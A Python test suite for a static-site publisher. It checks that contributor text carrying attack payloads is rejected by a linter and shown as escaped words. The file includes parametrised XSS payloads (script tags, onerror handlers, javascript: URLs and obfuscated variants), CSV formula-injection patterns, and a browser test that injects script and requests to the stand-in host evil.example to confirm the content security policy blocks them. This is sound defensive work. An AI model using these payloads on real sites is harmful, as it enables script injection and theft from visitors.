"""What contributors write never becomes script: told by a check, and shown as words all the same.

Every text of a demo is made an attack, and its site is built as if nobody had checked it.
"""

import csv
import io
import json
import os
import re
import sqlite3
import zipfile
from collections import defaultdict
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, get_args
from xml.etree import ElementTree

import pytest
from tests.partnership import Partnership
from tests.publish.attacks import Attack, attacked
from tests.publish.payloads import ADDRESSES, CELLS, HARMLESS, NAMES, PLAIN, PROSE

from accessibility.tabs import addresses, visit, watch
from npcs.demo import generate
from npcs.publish import BuildFailed, build
from npcs.publish.assemble import Engine
from npcs.publish.finish import finished
from npcs.publish.mdsafe import allowed
from npcs.publish.search.form import form
from npcs.records.demo_mark import demo_date
from running import npcs


@pytest.fixture(scope="module")
def records(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Attack]]:
    """The records of a partnership in which everything is an attack."""
    folder = tmp_path_factory.mktemp("attacked") / "hub"
    generate(folder, members=4, years=1)
    return folder, attacked(folder)


@pytest.fixture(scope="module", params=get_args(Engine))
def site(records: tuple[Path, list[Attack]], request: pytest.FixtureRequest) -> Path:
    """Their site, built without a check."""
    folder, _ = records
    out = folder / "build" / request.param
    return build(folder, out, demo_date(folder), engine=request.param).out


NOTICE = """\
---
title: Cribs
kind: recall
tlp: CLEAR
hazard: Slats
version: "1.0"
recalls:
- address: "https://example.org/r"
  number: 24-001
  product: Crib
---
Look.
"""


def found_by_check(folder: Path) -> tuple[list[dict[str, Any]], set[str]]:
    """The findings of errors, and the files that have more than are shown."""
    done = npcs("check", "--root", str(folder), "--as-of", "2027-06-15", "--format", "json")
    found = [one for one in json.loads(done.out)["findings"] if one["severity"] == "error"]
    return found, {one["path"] for one in found if "there are more like this" in one["message"]}


def test_there_are_enough_attacks(records: tuple[Path, list[Attack]]) -> None:
    assert len({*PROSE, *PLAIN, *CELLS, *ADDRESSES, *NAMES}) >= 80
    assert {one.path.split("/")[0] for one in records[1]} == {
        "charter", "definitions", "notices", "practices", "workplan"
    }  # fmt: skip
    for payload in (*PLAIN, *CELLS):
        assert any(one.payload == payload for one in records[1]), payload


def test_the_check_refuses_each_attack_with_its_line(records: tuple[Path, list[Attack]]) -> None:
    folder, attacks = records
    found, cut = found_by_check(folder)
    lines = defaultdict(set)
    for one in found:
        if one["rule"] == "unsafe-content":
            lines[one["path"]].add(one["line"])
    missed = [
        one for one in attacks
        if one.path not in cut
        and one.payload not in HARMLESS
        and not lines[one.path] & {*range(one.first, one.last + 1)}
    ]  # fmt: skip
    assert missed == []


@pytest.mark.parametrize("payload", PROSE)
def test_the_check_refuses_it_in_prose(payload: str, tmp_path: Path) -> None:
    payload = payload.replace("CHARTER", "../charter.md")
    Partnership().decision("D-2027-001", "2027-03-04", f"Because.\n\n{payload}\n").write(tmp_path)
    found, _ = found_by_check(tmp_path)
    first = (tmp_path / "charter/decisions/D-2027-001.md").read_text().split("Because")[0].count(
        "\n") + 3  # fmt: skip
    assert any(one["rule"] == "unsafe-content" and one["line"] >= first for one in found)


@pytest.mark.parametrize("address", ADDRESSES)
def test_a_web_address_that_is_none_does_not_fit(address: str, tmp_path: Path) -> None:
    notice = NOTICE.replace("https://example.org/r", json.dumps(address)[1:-1])
    Partnership().put("notices/2027/NPCS-SN-2027-001.md", notice).write(tmp_path)
    found, _ = found_by_check(tmp_path)
    assert ("invalid-field", 8) in {(one["rule"], one["line"]) for one in found}


@pytest.mark.skipif(os.name == "nt", reason="such files cannot be made on Windows")
def test_no_file_is_named_as_an_attack(tmp_path: Path) -> None:
    for name in NAMES:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("<script>fired()</script>")
    found, _ = found_by_check(tmp_path)
    assert {one["path"] for one in found if one["rule"] == "unknown-file"} == {*NAMES}
    with pytest.raises(BuildFailed):
        build(tmp_path)


def test_no_id_is_an_attack(tmp_path: Path) -> None:
    Partnership().put("charter/members/alder.yml", f"id: {json.dumps(PLAIN[0])}\n").write(tmp_path)
    found, _ = found_by_check(tmp_path)
    assert ("id-mismatch", 1) in {(one["rule"], one["line"]) for one in found}


# Published all the same


def test_no_page_holds_markup_of_a_contributor(site: Path) -> None:
    pages = [*site.rglob("*.html")]
    assert len(pages) > 250
    for path in pages:
        page = path.read_text()
        tags = re.sub(r"\"[^\"]*\"", '""', page)
        assert not re.search(r"<[^>]*\son\w+\s*=", tags), path
        links = r"<[a-z][^>]*\s(?:href|src|action)=[\"']?\s*(?:javascript|data|vbscript):"
        assert not re.search(links, page), path
        assert 'evil.example/x.png" ' not in page, path
        scripts = re.findall(r"<script.*?</script>", page, re.DOTALL)
        assert page.count("<script") == page.count("</script>") == len(scripts), path
        assert "fired()" not in "".join(scripts), path
        article = page.split("<article")[1].split("</article>")[0] if "<article" in page else ""
        article = article.replace(form("../"), "")  # the search's own
        article = re.sub(r'<form class="npcs-day".*?</form>', "", article, flags=re.DOTALL)
        article = article.replace('<a id="__skip" tabindex="-1"></a>', "")  # Zensical's own
        strange = r"<(?:script|iframe|form|input|style|base|meta|object|embed|link|audio|math)\b"
        assert not re.search(strange, article), path
        assert not re.search(r'<[a-z][^>]*\sid="_', article), path


def test_the_words_of_an_attack_are_shown_as_words(
    site: Path, records: tuple[Path, list[Attack]]
) -> None:
    said = "".join(path.read_text() for path in site.rglob("*.html"))
    for payload in (PLAIN[0], PLAIN[1], HARMLESS[0], HARMLESS[2]):
        shown = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert shown.replace('"', "&quot;").strip("# ") in said or shown.strip("# ") in said
    assert "<title>&lt;script&gt;fired()&lt;/script&gt;" in said


def test_no_file_beside_the_pages_carries_an_attack_on(site: Path) -> None:
    seen = set()
    for path in sorted(site.rglob("*")):
        if not path.is_file() or path.is_relative_to(site / "assets"):
            continue
        match path.suffix:
            case ".xml":
                tree = ElementTree.fromstring(path.read_bytes())
                names = {one.tag.rpartition("}")[2] for one in tree.iter()}
                assert not names & {"script", "svg", "img", "iframe", "text"}, path
            case ".svg":
                tree = ElementTree.fromstring(path.read_bytes())
                for one in tree.iter():
                    assert one.tag.rpartition("}")[2] not in ("script", "foreignObject"), path
                    assert not [key for key in one.attrib if key.lower().startswith("on")], path
            case ".json" | ".jsonld":
                json.loads(path.read_bytes())
            case ".ics":
                for line in path.read_text("utf-8").replace("\n ", "").splitlines():
                    assert re.match(r"[A-Z][A-Z-]*(?:;[^:]*)?:", line), (path, line)
            case ".csv" if path.parent.name != "codes":  # those are the records themselves
                for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))):
                    for cell in row:
                        assert not re.match(r"[=@\t\r]|[+-](?![\d.]+$)", cell), (path, cell)
            case ".apkg":
                for field in _deck(path):
                    tags = {*re.findall(r"</?([^\s>]*)", field)}
                    assert tags <= {*FORMATTED.split()}, field
                    assert not re.search(r"<[^>]*\son\w+=|=\"(?!https?:)\w+:", field), field
            case _:
                continue
        seen.add(path.suffix)
    assert {".xml", ".json", ".jsonld", ".ics", ".csv", ".apkg"} <= seen


FORMATTED = (
    "ol ul li p a b em strong code pre img dl dt dd table thead tbody tr th td h1 h2 h3 h4 h5 h6 "
    "blockquote div sup hr br"
)


def _deck(path: Path) -> Iterator[str]:
    with zipfile.ZipFile(path) as archive:
        base = sqlite3.connect(":memory:")
        base.deserialize(archive.read("collection.anki2"))
        for (fields,) in base.execute("SELECT flds FROM notes"):
            yield from fields.split("\x1f")
        base.close()


FIRED = "window.ran = 0; window.fired = () => { window.ran += 1 }"
TOUCHED = """() => {
  for (const one of document.querySelectorAll("article *, .md-sidebar *"))
    for (const kind of ["mouseover", "focus", "click", "toggle", "submit"])
      one.dispatchEvent(new Event(kind, { cancelable: true }));
}"""


@pytest.mark.browser
@pytest.mark.filterwarnings("ignore::ResourceWarning")
def test_nothing_runs_in_a_browser_even_without_the_policy(
    site: Path, served: Callable[[Path], str], chromium: Any
) -> None:
    base = served(site)
    context = chromium.new_context(bypass_csp=True)
    context.add_init_script(FIRED)
    outside, _ = watch(context, base)
    ran = []

    def touch(page: Any, address: str) -> Iterator[None]:
        page.on("dialog", lambda one: (ran.append(address), one.dismiss()))
        page.goto(base + address, wait_until="commit")
        yield
        page.wait_for_load_state()
        page.evaluate(TOUCHED)
        yield
        here = page.url.partition("#")[0].partition("?")[0]  # the search keeps what is asked there
        if page.evaluate("window.ran") or here != base + address:
            ran.append(address)

    folders = defaultdict(list)
    for address in addresses(site):
        folders[address.rstrip("/").rpartition("/")[0]].append(address)
    del folders["rules"]  # in which nobody's words stand but ours
    visit(context, (one for pages in folders.values() for one in pages[:12]), touch)
    context.close()
    assert (ran, outside) == ([], [])


@pytest.mark.browser
@pytest.mark.filterwarnings("ignore::ResourceWarning")
def test_a_search_for_an_attack_shows_it_and_runs_nothing(
    site: Path, served: Callable[[Path], str], chromium: Any
) -> None:
    context = chromium.new_context()
    context.add_init_script(FIRED)
    page = context.new_page()
    page.goto(served(site))
    page.locator(".npcs-search input").fill("onerror")
    page.locator(".npcs-search input").press("Enter")
    page.locator(".npcs-results mark").first.wait_for()
    assert page.evaluate("window.ran") == 0
    assert page.locator("#find-results :is(script, img, svg)").count() == 0
    context.close()


@pytest.mark.browser
@pytest.mark.filterwarnings("ignore::ResourceWarning")
def test_the_policy_stops_what_would_get_past_all_else(
    built: Path, served: Callable[[Path], str], chromium: Any
) -> None:
    base = served(built)
    context = chromium.new_context()
    context.add_init_script(FIRED)
    outside, said = watch(context, base)
    failed: list[tuple[str, str]] = []
    context.on("requestfailed", lambda one: failed.append((one.url, one.failure)))
    page = context.new_page()
    page.goto(base)
    page.evaluate(
        """() => {
          const add = (name, values) =>
            document.body.append(Object.assign(document.createElement(name), values));
          add("script", { textContent: "fired()" });
          add("script", { src: "https://evil.example/x.js" });
          add("img", { src: "https://evil.example/x.png" });
          add("iframe", { src: "https://evil.example/" });
          const inline = document.createElement("div");
          inline.innerHTML = "<img src=x onerror=fired()><a href='javascript:fired()'>x</a>";
          document.body.append(inline);
          inline.lastChild.click();
          fetch("https://evil.example/").catch(() => {});
        }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") == 0
    context.close()
    assert not [one for one in failed if one[1] != "csp"]
    assert len(failed) == len(outside) >= 2
    assert len(said) >= 6


@pytest.mark.parametrize(
    "text",
    [
        "<script>x</script>", "<p onclick=x>", '<a href="javascript:x">',
        "<a href=' javascript:x'>", '<img src="data:x">', '<p style="position:fixed">',
        "<custom-element>", "<!-- x -->", '<a href="java\nscript:x">', "<img/src/onerror=x>",
        "<img src=x onerror=x title='\"'>", "<img src=x onerror=x ", '<p title="<">', "<P>",
    ],
)  # fmt: skip
def test_the_last_look_stops_what_all_else_has_missed(text: str) -> None:
    with pytest.raises(BuildFailed, match=r"x\.html"):
        finished(f"<article class='x'>{text}</article>", "x.html")


@pytest.mark.parametrize("script", ["<script>x", "<SCRIPT >x", '<script data-src="x.js">x'])
def test_no_page_has_a_script_of_its_own(script: str) -> None:
    with pytest.raises(BuildFailed, match=r"x\.html"):
        finished(f"<head>{script}</head>", "x.html")


def test_files_with_scripts_and_data_may_stand_in_a_page() -> None:
    for script in ('<script src="x.js" defer>', '<script id="x" type="application/json">{}'):
        assert script in finished(f"<head>{script}</script></head>", "x.html")


@pytest.mark.parametrize(
    ("tag", "name", "value"),
    [
        ("a", "href", "javascript:x"), ("a", "href", "java\tscript:x"), ("a", "href", "//evil"),
        ("a", "href", "\\\\evil"), ("a", "href", "java&#115;cript:x"), ("img", "src", "https://x"),
        ("p", "onclick", "x"), ("p", "style", "color:red"), ("p", "id", "__config"),
        ("p", "href", "x"), ("td", "style", "text-align: left;"), ("a", "target", "_top"),
    ],
)  # fmt: skip
def test_attributes_that_are_refused(tag: str, name: str, value: str) -> None:
    assert not allowed(tag, name, value)


@pytest.mark.parametrize(
    ("tag", "name", "value"),
    [
        ("a", "href", "https://a.example/b?c:d"), ("a", "href", "../x.md#y"), ("p", "id", "chr-3"),
        ("a", "href", "mailto:a@example.org"), ("td", "class", "npcs-right"),
        ("li", "id", "fn:1"), ("p", "class", "npcs-lead"), ("a", "href", "#x"),
    ],
)  # fmt: skip
def test_attributes_that_stay(tag: str, name: str, value: str) -> None:
    assert allowed(tag, name, value)
